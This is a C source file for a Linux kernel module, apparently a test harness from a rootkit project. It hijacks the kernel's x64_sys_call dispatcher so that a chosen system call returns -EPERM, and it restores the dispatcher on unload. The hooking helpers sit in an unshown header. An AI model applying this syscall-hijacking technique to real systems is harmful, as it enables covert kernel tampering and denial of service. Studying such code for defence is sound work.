// SPDX-License-Identifier: GPL-2.0
/* Takes a system call over in the function that chooses among them. */
#include "rootkit.h"

enum { MOST = 16 << 10 };

static struct jump jump;

static long called(const struct pt_regs *regs)
{
	return -EPERM;
}

static int __init rk_init(void)
{
	unsigned long victim = symbol_of(VICTIM);
	int err = find_jump(&jump, (u8 *)symbol_of("x64_sys_call"), MOST, victim, victim);

	if (!err)
		lead_jump(&jump, called);
	return err;
}

static void __exit rk_exit(void)
{
	lead_jump_back(&jump);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A test: a system call to which another function is chosen");
